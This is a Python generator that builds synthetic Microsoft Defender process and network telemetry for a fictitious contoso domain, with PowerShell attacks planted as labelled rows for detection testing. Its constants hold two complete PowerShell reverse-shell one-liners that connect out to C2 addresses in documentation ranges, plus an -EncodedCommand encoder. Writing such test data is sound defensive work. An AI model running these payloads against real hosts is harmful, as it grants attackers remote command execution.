"""Generate the bundled sample telemetry: one UTC day of Defender advanced-hunting events.

``python -m devtools.make_samples --out samples --day 2026-11-27`` writes
``DeviceProcessEvents.jsonl`` and ``DeviceNetworkEvents.jsonl`` (one JSON object a line, columns
from ``shared/table_schemas.json`` in schema order), ``manifest.json`` (the attacks and the hard
negatives, with the ReportIds that identify their rows) and ``README.md``.

Six devices of a fictitious ``contoso`` domain live through an ordinary day (services, scheduled
tasks, users with Outlook, Teams and Edge, an IT administrator, an application server) and four
PowerShell attacks happen on three of them. The output is a pure function of ``--day`` and the
fixed seed: no clock is read, so ``tests/test_samples.py`` can check that the committed files are
exactly what this program writes.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import random
from collections.abc import Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

from shared.schemas import table_schemas

SEED = 20261127
DEFAULT_DAY = "2026-11-27"
PROCESS_TABLE = "DeviceProcessEvents"
NETWORK_TABLE = "DeviceNetworkEvents"

DOMAIN = "contoso"
DNS_SUFFIX = "corp.contoso.com"
UPN_SUFFIX = "contoso.com"
DOMAIN_SID = "S-1-5-21-1843332746-572796286-2118856591"

WIN11_BUILD = "10.0.26100.7171"
SERVER_BUILD = "10.0.20348.4405"
WINDOWS_PRODUCT = "Microsoft® Windows® Operating System"
OFFICE = "16.0.19328.20190"
EDGE = "143.0.3650.66"
DEFENDER_PLATFORM = "4.18.25100.9"
TEAMS = "25306.804.4102.7193"

# Attack infrastructure: IETF documentation ranges (RFC 5737), which route nowhere.
C2_PLAIN = ("203.0.113.57", 443)
C2_ENCODED = ("198.51.100.23", 4444)
C2_CRADLE = ("198.51.100.77", 8080)
C2_FILE = ("203.0.113.200", 443)

# Internal hosts that are not among the sample devices.
DC01 = ("dc01.corp.contoso.com", "10.20.0.10")
FS01 = ("fs01.corp.contoso.com", "10.20.1.15")
SQL01 = ("sql01.corp.contoso.com", "10.20.2.40")
INTRANET = ("intranet.corp.contoso.com", "10.20.3.10")

# Public endpoints of benign traffic, by the process that talks to them.
EDGE_SITES = [
    ("www.bing.com", "204.79.197.200"), ("edge.microsoft.com", "13.107.21.239"),
    ("login.microsoftonline.com", "20.190.160.131"), ("contoso.sharepoint.com", "13.107.136.10"),
    ("contoso-my.sharepoint.com", "13.107.136.11"), ("www.office.com", "13.107.6.156"),
    ("learn.microsoft.com", "23.52.120.57"), ("portal.azure.com", "20.50.2.41"),
    ("ntp.msn.com", "204.79.197.203"), ("assets.msn.com", "23.52.120.48"),
    ("github.com", "140.82.121.4"), ("www.wikipedia.org", "185.15.59.224"),
    ("outlook.office.com", "52.97.211.18"), ("config.edge.skype.com", "13.107.42.16"),
    ("www.linkedin.com", "13.107.42.14"), ("www.google.com", "142.250.185.100"),
]
TEAMS_SITES = [
    ("teams.microsoft.com", "52.113.194.132"), ("teams.events.data.microsoft.com", "52.113.195.5"),
    ("presence.teams.microsoft.com", "52.112.100.3"),
    ("login.microsoftonline.com", "20.190.160.131"),
    ("statics.teams.cdn.office.net", "13.107.246.45"),
]
OUTLOOK_SITES = [("outlook.office365.com", "52.97.146.178"),
                 ("outlook.office365.com", "40.99.10.34"),
                 ("substrate.office.com", "52.97.211.34")]
SENSE_SITES = [("winatp-gw-weu.microsoft.com", "20.50.201.198"),
               ("eu-v20.events.data.microsoft.com", "20.189.173.9")]
DEFENDER_SITES = [("wdcp.microsoft.com", "52.137.90.34"), ("wdcpalt.microsoft.com", "20.44.10.123")]
WU_SITES = [("fe3cr.delivery.mp.microsoft.com", "20.12.23.50"),
            ("slscr.update.microsoft.com", "20.72.235.82"),
            ("tsfe.trafficshaping.dsp.mp.microsoft.com", "20.54.24.79")]


@dataclass(frozen=True)
class Binary:
    path: str
    description: str
    original: str
    version: str = WIN11_BUILD
    product: str = WINDOWS_PRODUCT
    company: str = "Microsoft Corporation"
    size: int = 0
    os_component: bool = True

    @property
    def name(self) -> str:
        return self.path.rsplit("\\", 1)[-1]

    @property
    def internal(self) -> str:
        return self.original.split(".", 1)[0]

    def digest(self, algorithm: str) -> str:
        data = f"{self.path.lower()}|{self.version}".encode()
        return hashlib.new(algorithm, data, usedforsecurity=False).hexdigest()


SYS32 = "C:\\Windows\\System32\\"
OFFICE_DIR = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
EDGE_EXE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
PLATFORM_DIR = f"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\{DEFENDER_PLATFORM}-0\\"


def _office(exe: str, description: str, size: int) -> Binary:
    return Binary(OFFICE_DIR + exe, description, exe, OFFICE, description, size=size,
                  os_component=False)


BINARIES: dict[str, Binary] = {
    "System": Binary("System", "NT Kernel & System", "ntoskrnl.exe", size=12_345_672),
    "smss": Binary(SYS32 + "smss.exe", "Windows Session Manager", "smss.exe", size=188_416),
    "wininit": Binary(SYS32 + "wininit.exe", "Windows Start-Up Application",
                      "WinInit.exe.mui", size=462_848),
    "services": Binary(SYS32 + "services.exe", "Services and Controller app",
                       "services.exe.mui", size=757_760),
    "lsass": Binary(SYS32 + "lsass.exe", "Local Security Authority Process", "lsass.exe.mui",
                    size=90_184),
    "winlogon": Binary(SYS32 + "winlogon.exe", "Windows Logon Application", "WINLOGON.EXE.MUI",
                       size=978_944),
    "svchost": Binary(SYS32 + "svchost.exe", "Host Process for Windows Services",
                      "svchost.exe.mui", size=57_360),
    "userinit": Binary(SYS32 + "userinit.exe", "Userinit Logon Application",
                       "USERINIT.EXE.MUI", size=40_960),
    "explorer": Binary("C:\\Windows\\explorer.exe", "Windows Explorer", "EXPLORER.EXE.MUI",
                       size=5_793_128),
    "sihost": Binary(SYS32 + "sihost.exe", "Shell Infrastructure Host", "sihost.exe",
                     size=139_264),
    "taskhostw": Binary(SYS32 + "taskhostw.exe", "Host Process for Windows Tasks",
                        "taskhostw.exe", size=110_592),
    "RuntimeBroker": Binary(SYS32 + "RuntimeBroker.exe", "Runtime Broker", "RuntimeBroker.exe",
                            size=143_360),
    "dllhost": Binary(SYS32 + "dllhost.exe", "COM Surrogate", "dllhost.exe", size=24_576),
    "WmiPrvSE": Binary(SYS32 + "wbem\\WmiPrvSE.exe", "WMI Provider Host", "Wmiprvse.exe",
                       size=520_192),
    "conhost": Binary(SYS32 + "conhost.exe", "Console Window Host", "CONHOST.EXE.MUI",
                      size=1_028_096),
    "cmd": Binary(SYS32 + "cmd.exe", "Windows Command Processor", "Cmd.Exe.MUI", size=323_584),
    "powershell": Binary(SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell",
                         "PowerShell.EXE.MUI", size=455_680),
    "pwsh": Binary("C:\\Program Files\\PowerShell\\7\\pwsh.exe", "pwsh", "pwsh.dll", "7.5.4.500",
                   "PowerShell", size=287_144, os_component=False),
    "SecurityHealthSystray": Binary(SYS32 + "SecurityHealthSystray.exe",
                                    "Windows Security notification icon",
                                    "SecurityHealthSystray.exe", size=87_552),
    "usoclient": Binary(SYS32 + "usoclient.exe", "UsoClient", "UsoClient", size=73_728),
    "MoUsoCoreWorker": Binary(SYS32 + "MoUsoCoreWorker.exe", "MoUSO Core Worker Process",
                              "MoUsoCoreWorker.exe", size=1_302_528),
    "TrustedInstaller": Binary("C:\\Windows\\servicing\\TrustedInstaller.exe",
                               "Windows Modules Installer", "TrustedInstaller.exe",
                               size=159_744),
    "CompatTelRunner": Binary(SYS32 + "CompatTelRunner.exe", "Microsoft Compatibility Telemetry",
                              "CompatTelRunner.exe", size=204_800),
    "forfiles": Binary(SYS32 + "forfiles.exe", "ForFiles - Executes a command on selected files",
                       "forfiles.exe", size=45_056),
    "Robocopy": Binary(SYS32 + "Robocopy.exe", "Microsoft Robocopy", "robocopy.exe",
                       size=167_936),
    "mstsc": Binary(SYS32 + "mstsc.exe", "Remote Desktop Connection", "mstsc.exe.mui",
                    size=1_380_352),
    "rdpclip": Binary(SYS32 + "rdpclip.exe", "RDP Clipboard Monitor", "rdpclip.exe",
                      size=335_872),
    "mmc": Binary(SYS32 + "mmc.exe", "Microsoft Management Console", "MMC.EXE.MUI",
                  size=2_006_016),
    "MpCmdRun": Binary(PLATFORM_DIR + "MpCmdRun.exe",
                       "Microsoft Malware Protection Command Line Utility", "MpCmdRun.exe",
                       DEFENDER_PLATFORM, "Microsoft® Windows® Operating System", size=1_741_288,
                       os_component=False),
    "MsMpEng": Binary(PLATFORM_DIR + "MsMpEng.exe", "Antimalware Service Executable",
                      "MsMpEng.exe", DEFENDER_PLATFORM, size=133_576, os_component=False),
    "MsSense": Binary("C:\\Program Files\\Windows Defender Advanced Threat Protection\\"
                      "MsSense.exe", "Windows Defender Advanced Threat Protection Service "
                      "Executable", "MsSense.exe", "10.8820.26100.7019", size=4_315_064,
                      os_component=False),
    "MicrosoftEdgeUpdate": Binary("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\"
                                  "MicrosoftEdgeUpdate.exe", "Microsoft Edge Update",
                                  "MicrosoftEdgeUpdate.exe", "1.3.209.1", "Microsoft Edge Update",
                                  size=214_896, os_component=False),
    "OneDrive": Binary("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "Microsoft OneDrive",
                       "OneDrive.exe", "25.214.1102.0002", "Microsoft OneDrive", size=3_687_816,
                       os_component=False),
    "OneDriveStandaloneUpdater": Binary(
        "C:\\Program Files\\Microsoft OneDrive\\OneDriveStandaloneUpdater.exe",
        "Standalone Updater", "OneDriveStandaloneUpdater.exe", "25.214.1102.0002",
        "Microsoft OneDrive", size=5_129_096, os_component=False),
    "msedge": Binary(EDGE_EXE, "Microsoft Edge", "msedge.exe", EDGE, "Microsoft Edge",
                     size=4_205_128, os_component=False),
    "msedgewebview2": Binary(f"C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\"
                             f"{EDGE}\\msedgewebview2.exe", "Microsoft Edge WebView2",
                             "msedgewebview2.exe", EDGE, "Microsoft Edge WebView2",
                             size=3_320_392, os_component=False),
    "ms-teams": Binary(f"C:\\Program Files\\WindowsApps\\MSTeams_{TEAMS}_x64__8wekyb3d8bbwe\\"
                       "ms-teams.exe", "Microsoft Teams", "ms-teams.exe", TEAMS, "Microsoft Teams",
                       size=1_152_592, os_component=False),
    "OUTLOOK": _office("OUTLOOK.EXE", "Microsoft Outlook", 45_383_016),
    "WINWORD": _office("WINWORD.EXE", "Microsoft Word", 2_175_312),
    "EXCEL": _office("EXCEL.EXE", "Microsoft Excel", 69_877_072),
    "POWERPNT": _office("POWERPNT.EXE", "Microsoft PowerPoint", 2_038_616),
    "Notepad": Binary("C:\\Program Files\\WindowsApps\\Microsoft.WindowsNotepad_11.2510.6.0_x64__"
                      "8wekyb3d8bbwe\\Notepad\\Notepad.exe", "Notepad", "Notepad.exe",
                      "11.2510.6.0", "Microsoft Notepad", size=2_543_616, os_component=False),
    "WindowsTerminal": Binary("C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_"
                              "1.23.12811.0_x64__8wekyb3d8bbwe\\WindowsTerminal.exe",
                              "Windows Terminal", "WindowsTerminal.exe", "1.23.12811.0",
                              "Windows Terminal", size=356_352, os_component=False),
    "Code": Binary("C:\\Program Files\\Microsoft VS Code\\Code.exe", "Visual Studio Code",
                   "electron.exe", "1.106.2", "Visual Studio Code", size=186_402_152,
                   os_component=False),
    "git": Binary("C:\\Program Files\\Git\\cmd\\git.exe", "Git for Windows", "git.exe",
                  "2.52.0.1", "Git", "The Git Development Community", 46_608, False),
    "git-remote-https": Binary("C:\\Program Files\\Git\\mingw64\\libexec\\git-core\\"
                               "git-remote-https.exe", "Git for Windows", "git-remote-https.exe",
                               "2.52.0.1", "Git", "The Git Development Community", 2_199_040,
                               False),
    "SQLCMD": Binary("C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\"
                     "Binn\\SQLCMD.EXE", "T-SQL execution command line utility", "sqlcmd.exe",
                     "2019.170.1000.7", "Microsoft SQL Server", size=279_464, os_component=False),
    "SearchIndexer": Binary(SYS32 + "SearchIndexer.exe", "Microsoft Windows Search Indexer",
                            "SearchIndexer.exe", size=1_075_200),
    "SearchProtocolHost": Binary(SYS32 + "SearchProtocolHost.exe",
                                 "Microsoft Windows Search Protocol Host",
                                 "SearchProtocolHost.exe", size=446_464),
    "SearchFilterHost": Binary(SYS32 + "SearchFilterHost.exe",
                               "Microsoft Windows Search Filter Host", "SearchFilterHost.exe",
                               size=237_568),
    "backgroundTaskHost": Binary(SYS32 + "backgroundTaskHost.exe", "Background Task Host",
                                 "backgroundTaskHost.exe", size=24_576),
    "smartscreen": Binary(SYS32 + "smartscreen.exe", "Windows Defender SmartScreen",
                          "smartscreen.exe", size=2_719_744),
    "wermgr": Binary(SYS32 + "wermgr.exe", "Windows Problem Reporting", "WerMgr", size=230_912),
    "sihclient": Binary(SYS32 + "sihclient.exe", "SIH Client", "sihclient.exe", size=233_472),
    "wevtutil": Binary(SYS32 + "wevtutil.exe", "Eventing Command Line Utility",
                       "wevtutil.exe.mui", size=266_240),
    "dotnet": Binary("C:\\Program Files\\dotnet\\dotnet.exe", ".NET Host", "dotnet.exe",
                     "10.0.0.0", "Microsoft® .NET", size=180_240, os_component=False),
    "whoami": Binary(SYS32 + "whoami.exe", "whoami - displays logged on user information",
                     "whoami.exe", size=86_016),
    "ipconfig": Binary(SYS32 + "ipconfig.exe", "IP Configuration Utility", "ipconfig.exe",
                       size=36_864),
    "net": Binary(SYS32 + "net.exe", "Net Command", "net.exe", size=61_440),
    "net1": Binary(SYS32 + "net1.exe", "Net Command", "net1.exe", size=188_416),
    "ContosoOrders.Api": Binary("C:\\Apps\\ContosoOrders\\ContosoOrders.Api.exe",
                                "Contoso Orders API", "ContosoOrders.Api.dll", "3.8.2.0",
                                "Contoso Orders", "Contoso Ltd.", 151_040, False),
}


@dataclass(frozen=True)
class Account:
    name: str
    domain: str
    sid: str
    upn: str = ""
    object_id: str = ""
    logon_id: int = 999
    session: int = 0
    integrity: str = "System"
    elevation: str = "TokenElevationTypeDefault"


SYSTEM = Account("system", "nt authority", "S-1-5-18")
LOCAL_SERVICE = Account("local service", "nt authority", "S-1-5-19", logon_id=997)
NETWORK_SERVICE = Account("network service", "nt authority", "S-1-5-20", logon_id=996)


@dataclass
class Proc:
    binary: Binary
    pid: int
    created: datetime
    cmdline: str
    account: Account
    parent: Proc | None

    @property
    def name(self) -> str:
        return self.binary.name


@dataclass
class Person:
    account: Account
    title: str


@dataclass
class Device:
    name: str
    device_id: str
    ip: str
    server: bool
    role: str
    rng: random.Random
    day_start: datetime
    process_rows: list[dict[str, Any]] = field(default_factory=list)
    network_rows: list[dict[str, Any]] = field(default_factory=list)
    procs: dict[str, Proc] = field(default_factory=dict)
    used_pids: set[int] = field(default_factory=set)

    @property
    def day_end(self) -> datetime:
        return self.day_start + timedelta(days=1)

    def binary(self, key: str) -> Binary:
        binary = BINARIES[key]
        if binary.os_component and self.server:
            return replace(binary, version=SERVER_BUILD)
        return binary

    def new_pid(self, lo: int = 1_000, hi: int = 30_000) -> int:
        while True:
            pid = self.rng.randrange(lo, hi) // 4 * 4
            if pid not in self.used_pids:
                self.used_pids.add(pid)
                return pid

    def spawn(self, parent: Proc | None, key: str, cmdline: str, at: datetime,
              account: Account | None = None, pid: int | None = None) -> Proc:
        """A process created by *parent* at *at*; one event when *at* is inside the day."""
        if account is None:
            account = parent.account if parent is not None else SYSTEM
        if pid is None:
            pid = self.new_pid()
        proc = Proc(self.binary(key), pid, exact(at), cmdline, account, parent)
        if proc.created >= self.day_start:
            if proc.created >= self.day_end:
                raise ValueError(f"{self.name}: {key} at {proc.created} is after the day")
            self.process_rows.append(self._process_row(proc))
        return proc

    def child(self, parent: Proc, key: str, cmdline: str, account: Account | None = None,
              lo: int = 15, hi: int = 900) -> Proc:
        """A process created shortly (*lo*..*hi* ms) after its parent."""
        return self.spawn(parent, key, cmdline, parent.created + self.ms(lo, hi), account)

    def console(self, proc: Proc) -> Proc:
        """The conhost.exe every console program started outside a console gets."""
        return self.child(proc, "conhost", "\\??\\C:\\Windows\\system32\\conhost.exe "
                          "0xffffffff -ForceV1", lo=2, hi=40)

    def ms(self, lo: int, hi: int) -> timedelta:
        return timedelta(milliseconds=self.rng.randint(lo, hi),
                         microseconds=self.rng.randint(1, 999))

    def connect(self, proc: Proc, at: datetime, host: tuple[str, str], port: int,
                action: str = "ConnectionSuccess", url: bool = True) -> dict[str, Any]:
        """An outbound TCP connection from *proc* to *host* (``(name, ip)``)."""
        remote_url, remote_ip = host
        row = self._network_row(proc, at, action)
        row.update(RemoteIP=remote_ip, RemotePort=port, RemoteUrl=remote_url if url else "",
                   LocalIP=self.ip, LocalPort=self.rng.randint(49_152, 65_535), Protocol="Tcp",
                   LocalIPType="Private", RemoteIPType=ip_type(remote_ip))
        self.network_rows.append(row)
        return row

    def accept(self, proc: Proc, at: datetime, remote_ip: str, local_port: int) -> dict[str, Any]:
        """An inbound TCP connection from *remote_ip* accepted by *proc* on *local_port*."""
        row = self._network_row(proc, at, "InboundConnectionAccepted")
        row.update(RemoteIP=remote_ip, RemotePort=self.rng.randint(49_152, 65_535), RemoteUrl="",
                   LocalIP=self.ip, LocalPort=local_port, Protocol="Tcp", LocalIPType="Private",
                   RemoteIPType=ip_type(remote_ip))
        self.network_rows.append(row)
        return row

    def _network_row(self, proc: Proc, at: datetime, action: str) -> dict[str, Any]:
        at = exact(at)
        if not (self.day_start <= at < self.day_end) or at <= proc.created:
            raise ValueError(f"{self.name}: connection of {proc.name} at {at} is out of range")
        row: dict[str, Any] = {"Timestamp": iso(at), "DeviceId": self.device_id,
                               "DeviceName": self.name, "ActionType": action}
        row.update(initiating_columns(proc))
        return row

    def _process_row(self, proc: Proc) -> dict[str, Any]:
        binary, account = proc.binary, proc.account
        row: dict[str, Any] = {
            "Timestamp": iso(proc.created), "DeviceId": self.device_id, "DeviceName": self.name,
            "ActionType": "ProcessCreated", "FileName": binary.name,
            "FolderPath": binary.path, "SHA1": binary.digest("sha1"),
            "SHA256": binary.digest("sha256"), "MD5": binary.digest("md5"),
            "FileSize": binary.size,
            "ProcessVersionInfoCompanyName": binary.company,
            "ProcessVersionInfoProductName": binary.product,
            "ProcessVersionInfoProductVersion": binary.version,
            "ProcessVersionInfoInternalFileName": binary.internal,
            "ProcessVersionInfoOriginalFileName": binary.original,
            "ProcessVersionInfoFileDescription": binary.description,
            "ProcessId": proc.pid, "ProcessCommandLine": proc.cmdline,
            "ProcessIntegrityLevel": account.integrity,
            "ProcessTokenElevation": account.elevation,
            "ProcessCreationTime": iso(proc.created),
            "AccountDomain": account.domain, "AccountName": account.name,
            "AccountSid": account.sid, "AccountUpn": account.upn,
            "AccountObjectId": account.object_id, "LogonId": account.logon_id,
            "CreatedProcessSessionId": account.session, "IsProcessRemoteSession": False,
        }
        if proc.parent is not None:
            row.update(initiating_columns(proc.parent))
        return row


def initiating_columns(proc: Proc) -> dict[str, Any]:
    binary, account, parent = proc.binary, proc.account, proc.parent
    return {
        "InitiatingProcessSHA1": binary.digest("sha1"),
        "InitiatingProcessSHA256": binary.digest("sha256"),
        "InitiatingProcessMD5": binary.digest("md5"),
        "InitiatingProcessFileName": binary.name,
        "InitiatingProcessFileSize": binary.size,
        "InitiatingProcessVersionInfoCompanyName": binary.company,
        "InitiatingProcessVersionInfoProductName": binary.product,
        "InitiatingProcessVersionInfoProductVersion": binary.version,
        "InitiatingProcessVersionInfoInternalFileName": binary.internal,
        "InitiatingProcessVersionInfoOriginalFileName": binary.original,
        "InitiatingProcessVersionInfoFileDescription": binary.description,
        "InitiatingProcessId": proc.pid,
        "InitiatingProcessCommandLine": proc.cmdline,
        "InitiatingProcessCreationTime": iso(proc.created),
        "InitiatingProcessFolderPath": binary.path,
        "InitiatingProcessParentId": parent.pid if parent else 0,
        "InitiatingProcessParentFileName": parent.name if parent else "",
        "InitiatingProcessParentCreationTime": iso(parent.created) if parent else None,
        "InitiatingProcessAccountDomain": account.domain,
        "InitiatingProcessAccountName": account.name,
        "InitiatingProcessAccountSid": account.sid,
        "InitiatingProcessAccountUpn": account.upn,
        "InitiatingProcessAccountObjectId": account.object_id,
        "InitiatingProcessIntegrityLevel": account.integrity,
        "InitiatingProcessTokenElevation": account.elevation,
        "InitiatingProcessLogonId": account.logon_id,
        "InitiatingProcessSessionId": account.session,
        "IsInitiatingProcessRemoteSession": False,
    }


def exact(moment: datetime) -> datetime:
    """Every timestamp carries microseconds, so its ISO form is always ``...SS.ffffffZ``."""
    return moment if moment.microsecond else moment + timedelta(microseconds=1)


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def parse_iso(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def ip_type(ip: str) -> str:
    """Defender's RemoteIPType. The documentation ranges used for C2 are treated as routable
    ("Public"), as Defender reports a real attacker's address."""
    first, second = (int(part) for part in ip.split(".")[:2])
    if first == 10 or (first == 172 and 16 <= second <= 31) or (first, second) == (192, 168):
        return "Private"
    if first == 127:
        return "Loopback"
    return "Public"


def guid(rng: random.Random) -> str:
    text = f"{rng.getrandbits(128):032x}"
    return f"{text[:8]}-{text[8:12]}-4{text[13:16]}-a{text[17:20]}-{text[20:]}"


def encode_command(script: str) -> str:
    """What ``-EncodedCommand`` takes: base64 of the script's UTF-16LE bytes."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


# --- Command lines ------------------------------------------------------------------------

def svchost(group: str, service: str | None = None, p: bool = True) -> str:
    text = f"C:\\Windows\\system32\\svchost.exe -k {group}"
    text += " -p" if p else ""
    return text + (f" -s {service}" if service else "")


def edge_cmd(rng: random.Random, user: str, kind: str) -> str:
    exe = f'"{EDGE_EXE}"'
    trial = f"--field-trial-handle=2096,i,{rng.getrandbits(63)},{rng.getrandbits(63)},262144"
    handle = f"--mojo-platform-channel-handle={rng.randrange(1_800, 9_000)}"
    if kind == "main":
        return f"{exe} --profile-directory=Default"
    if kind == "crashpad":
        data = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Edge\\User Data"
        return (f'{exe} --type=crashpad-handler "--user-data-dir={data}" /prefetch:4 '
                f'--monitor-self-annotation=ptype=crashpad-handler "--database={data}\\Crashpad" '
                f"--annotation=IsOfficialBuild=1 --annotation=channel= --annotation=plat=Win64 "
                f"--annotation=prod=Edge --annotation=ver={EDGE} "
                f"--initial-client-data=0x{rng.randrange(0x100, 0x300):x},0x"
                f"{rng.randrange(0x100, 0x300):x},0x{rng.randrange(0x100, 0x300):x}")
    if kind == "gpu":
        prefs = base64.b64encode(bytes(rng.choice((0, 0, 0, 1, 2, 16, 64, 224))
                                       for _ in range(72))).decode()
        return (f"{exe} --type=gpu-process --gpu-preferences={prefs} {trial} --lang=en-US "
                f"--service-sandbox-type=none {handle} /prefetch:2")
    if kind == "network":
        return (f"{exe} --type=utility --utility-sub-type=network.mojom.NetworkService "
                f"--lang=en-US --service-sandbox-type=none {trial} {handle} /prefetch:3")
    if kind == "storage":
        return (f"{exe} --type=utility --utility-sub-type=storage.mojom.StorageService "
                f"--lang=en-US --service-sandbox-type=service {trial} {handle} /prefetch:8")
    client = rng.randrange(5, 60)
    return (f"{exe} --type=renderer --lang=en-US --js-flags=--ms-user-locale= "
            f"--device-scale-factor=1.25 --num-raster-threads=4 "
            f"--enable-main-frame-before-activation --renderer-client-id={client} "
            f"--time-ticks-at-unix-epoch=-{rng.randrange(10**15, 10**16)} "
            f"--launch-time-ticks={rng.randrange(10**9, 10**11)} {trial} {handle} /prefetch:1")


def webview_cmd(rng: random.Random, user: str, kind: str) -> str:
    exe = f'"{BINARIES["msedgewebview2"].path}"'
    data = (f"C:\\Users\\{user}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\"
            f"Microsoft\\MSTeams\\EBWebView")
    if kind == "main":
        return (f'{exe} --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe '
                f'--webview-exe-version={TEAMS} --user-data-dir="{data}" --noerrdialogs '
                f"--embedded-browser-webview-dpi-awareness=2 --enable-features=SharedArrayBuffer "
                f"--lang=en-US --mojo-named-platform-channel-pipe="
                f"{rng.randrange(4_000, 30_000)}.{rng.randrange(100, 30_000)}."
                f"{rng.getrandbits(63)}")
    return (f'{exe} --type=renderer --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe '
            f'--user-data-dir="{data}" --lang=en-US --renderer-client-id={rng.randrange(4, 40)} '
            f"--mojo-platform-channel-handle={rng.randrange(1_800, 9_000)} /prefetch:1")


# Copied command lines (sources and licences in samples/README.md).
REVSHELLS_PS2 = (  # 0dayCTF/reverse-shell-generator "PowerShell #2", MIT
    "$client = New-Object System.Net.Sockets.TCPClient('{ip}',{port});$stream = "
    "$client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, "
    "$bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding)."
    "GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback"
    " + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);"
    "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()")
REVSHELLS_PAYLOAD = (  # 0dayCTF/reverse-shell-generator "PowerShell #3 (Base64)" payload, MIT
    '$client = New-Object System.Net.Sockets.TCPClient("{ip}",{port});$stream = '
    "$client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, "
    "$bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding)."
    "GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback"
    ' + "PS " + (pwd).Path + "> ";$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);'
    "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()")
DOCS_PWSH_ENCODED = ("pwsh -EncodedCommand "
                     "ZABpAHIAIAAiAEMAOgBcAFAAcgBvAGcAcgBhAG0AIABGAGkAbABlAHMAIgAgAA==")
DOCS_GET_WINEVENT = 'powershell.exe -Command "& {Get-WinEvent -LogName Security}"'
DOCS_UPDATE_HELP = ('powershell.exe -NoProfile -NonInteractive -Command '
                    '"Update-Help -Module Microsoft.PowerShell*"')
POWERSHELL_EXE = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


# --- The day ------------------------------------------------------------------------------

@dataclass
class Marker:
    """A row the manifest points at: an attack step or a hard negative."""

    key: str
    device: Device
    table: str
    row: dict[str, Any]


@dataclass
class Day:
    start: datetime
    rng: random.Random
    devices: list[Device] = field(default_factory=list)
    people: dict[str, Person] = field(default_factory=dict)
    markers: list[Marker] = field(default_factory=list)
    moments: dict[str, datetime] = field(default_factory=dict)
    """Times one device's scenario fixes for another's (both ends of a connection)."""

    def at(self, hour: float, minute: float = 0, second: float | None = None) -> datetime:
        """A moment of the day; without *second*, a random second of that minute."""
        if second is None:
            second = self.rng.uniform(0, 59)
        offset = timedelta(hours=hour, minutes=minute, seconds=second)
        return self.start + offset + timedelta(microseconds=self.rng.randint(1, 999_999))

    def between(self, first: float, last: float) -> datetime:
        """A random moment between two hours of the day."""
        return self.at(0, 0, self.rng.uniform(first * 3600, last * 3600))

    def mark(self, key: str, device: Device, table: str, row: dict[str, Any]) -> None:
        self.markers.append(Marker(key, device, table, row))

    def mark_process(self, key: str, device: Device, proc: Proc) -> None:
        row = next(r for r in device.process_rows
                   if r["ProcessId"] == proc.pid and r["ProcessCreationTime"] == iso(proc.created))
        self.mark(key, device, PROCESS_TABLE, row)


def person(rng: random.Random, name: str, title: str, session: int = 1) -> Person:
    account = Account(name, DOMAIN, f"{DOMAIN_SID}-{rng.randrange(1_104, 9_999)}",
                      f"{name}@{UPN_SUFFIX}", guid(rng), rng.randrange(10**8, 10**9), session,
                      "Medium", "TokenElevationTypeLimited")
    return Person(account, title)


def admin_of(person_: Person, rng: random.Random, name: str, session: int) -> Account:
    return Account(name, DOMAIN, f"{DOMAIN_SID}-{rng.randrange(1_104, 9_999)}",
                   f"{name}@{UPN_SUFFIX}", guid(rng), rng.randrange(10**8, 10**9), session,
                   "High", "TokenElevationTypeDefault")


def elevated(account: Account, rng: random.Random) -> Account:
    """The full token of a local administrator's UAC elevation (a separate logon session)."""
    return replace(account, integrity="High", elevation="TokenElevationTypeFull",
                   logon_id=rng.randrange(10**8, 10**9))


def boot(dev: Device, at: datetime) -> None:
    """The boot chain: kernel, session manager, services and the long-running service hosts."""
    system = Proc(dev.binary("System"), 4, exact(at), "", SYSTEM, None)
    smss = dev.spawn(system, "smss", "\\SystemRoot\\System32\\smss.exe", at + dev.ms(300, 900),
                     pid=dev.new_pid(300, 600))
    wininit = dev.spawn(smss, "wininit", "wininit.exe", smss.created + dev.ms(800, 2_000),
                        pid=dev.new_pid(600, 800))
    winlogon = dev.spawn(smss, "winlogon", "winlogon.exe", wininit.created + dev.ms(50, 300),
                         pid=dev.new_pid(600, 900))
    services = dev.spawn(wininit, "services", "C:\\Windows\\system32\\services.exe",
                         wininit.created + dev.ms(60, 300), pid=dev.new_pid(800, 1_000))
    lsass = dev.spawn(wininit, "lsass", "C:\\Windows\\system32\\lsass.exe",
                      wininit.created + dev.ms(80, 300), pid=dev.new_pid(800, 1_000))
    dev.procs.update(System=system, smss=smss, wininit=wininit, winlogon=winlogon,
                     services=services, lsass=lsass)
    hosts = [
        ("DcomLaunch", svchost("DcomLaunch"), SYSTEM),
